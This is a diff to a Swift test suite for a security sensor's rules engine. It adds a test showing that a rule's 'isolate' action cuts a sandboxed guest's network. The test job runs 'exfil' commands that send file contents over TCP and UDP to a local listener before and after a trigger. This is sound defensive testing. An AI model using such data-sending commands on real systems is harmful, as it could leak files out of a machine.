@@ -112,6 +112,38 @@ struct RulesWorkloadTests {
         #expect(refused.status == 64 && refused.stderr.contains("--rules needs the journal being written"), "\(refused.stderr)")
     }
 
+    /// A rule with the isolate action cuts the sandbox guest's network: what it sent before gets
+    /// through, nothing after.
+    @Test(.enabled(if: VMSensorTests.peers, VMSensorTests.why), .timeLimit(.minutes(10)))
+    func isolateCutsTheGuestsNetwork() throws {
+        let s = Scratch("rules-isolate")
+        let listener = try VMSensorTests.Listener(s)
+        let rules = s.file("isolate.yaml")
+        try """
+            - rule: trigger-touched
+              condition: ev = open and path = /mnt/trigger
+              severity: high
+              actions: [alert, isolate]
+            """.write(toFile: rules, atomically: true, encoding: .utf8)
+        let port = listener.port
+        let job = """
+            echo BEFORE-11 > /mnt/before; echo AFTER-22 > /mnt/after
+            exfil tcp /mnt/before 10.0.2.2 \(port); sleep 1
+            echo go > /mnt/trigger; sleep 2
+            exfil tcp /mnt/after 10.0.2.2 \(port); exfil udp /mnt/after 10.0.2.2 \(port); true
+            """
+        let r = try VMSensorTests.sandbox(s, guest: try SandboxTests.guest(),
+                                         ["--net", "--add", try VMSensorTests.exfilProgram(s), "--rules", rules, "--alerts", s.file("a.jsonl")], job: job)
+        #expect(r.result.status == 0, "\(r.result.stdout.suffix(2000))\(r.result.stderr.suffix(1000))")
+        usleep(500_000)
+        let got = listener.received
+        #expect(got.contains("BEFORE-11"), "the first send did not get through, so the test proves nothing: \(got)")
+        #expect(!got.contains("AFTER-22"), "sent after the network was cut: \(got)")
+        let rulesJSON = r.json["rules"] as? [String: Any]
+        #expect(rulesJSON?["isolated"] as? String == "rule trigger-touched", "\(r.json)")
+        #expect(Self.alerts(s.file("a.jsonl")).map { $0["rule"] as? String } == ["trigger-touched"])
+    }
+
     /// The tracer logs utime calls (given times or now); the timestamp rule tells them apart.
     @Test func forgedTimestampsAreCaughtOnTheHost() throws {
         let s = Scratch("rules-utime")
